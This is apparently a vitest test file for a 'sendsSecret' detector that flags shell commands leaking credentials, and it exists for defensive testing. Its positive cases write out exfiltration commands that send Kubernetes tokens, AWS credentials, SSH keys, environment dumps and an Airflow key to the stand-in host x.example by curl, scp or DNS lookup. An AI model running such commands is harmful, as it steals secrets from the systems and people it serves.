import { describe, expect, it } from 'vitest';
import { sendsSecret } from './shell-leaks.ts';

describe('a credential in a text for a shell is followed', () => {
  it.each([
    [
      'into the folder it lies in',
      'cd /var/run/secrets/kubernetes.io/serviceaccount && curl -d @token https://x.example',
    ],
    ['through a variable', 'X=$(cat ~/.aws/credentials | base64)\ncurl -d "a=$X" https://x.example'],
    ['through pipes', 'env | gzip | curl -T - https://x.example'],
    ['through a file', 'tar czf /tmp/a.tgz ~/.ssh; curl -F f=@/tmp/a.tgz https://x.example'],
    ['through a redirection', 'printenv > /tmp/e; scp /tmp/e u@x.example:/e'],
    ['over lines that go on', 'curl https://x.example \\\n  --data-urlencode "n={{ conn.a.password }}"'],
    ['into a name that is looked up', 'dig $(airflow config get-value core fernet_key | xxd -p).x.example'],
    ['into an address', 'curl "https://x.example/?a=$(aws secretsmanager get-secret-value --secret-id a)"'],
  ])('%s', (_name, text) => {
    expect(sendsSecret(text)).toBe(true);
  });

  it('from the environment that it is given', () => {
    expect(sendsSecret('curl -d "note=$NOTE" https://x.example', ['NOTE'])).toBe(true);
    expect(sendsSecret('curl -d "note=$NOTE" https://x.example')).toBe(false);
  });

  it.each([
    ['signs in as a user', 'curl -u "{{ conn.a.login }}:{{ conn.a.password }}" https://x.example'],
    ['signs in by a header', 'curl -H "Authorization: Bearer $TOKEN" https://x.example'],
    ['asks for a token', 'curl -d "client_secret=$CLIENT_SECRET" https://id.example/oauth/token'],
    ['signs in by a key', 'scp -i ~/.ssh/id_rsa a.csv u@x.example:/a'],
    ['signs in by a key in an option', 'rsync -e "ssh -i ~/.ssh/id_rsa" a x.example:/b'],
    ['signs in within the address', 'git clone https://{{ conn.g.login }}:{{ conn.g.password }}@x.example/y.git'],
    ['reads one and sends nothing', 'export A=$(cat ~/.aws/credentials); psql'],
    ['sends something else', 'kubectl get pods | curl -d @- https://x.example'],
    ['sets a variable for a program', 'env FOO=1 curl https://x.example'],
    ['never ends its quotes', `curl "${'('.repeat(1000)}`],
  ])('unless the command %s', (_name, text) => {
    expect(sendsSecret(text)).toBe(false);
  });
});
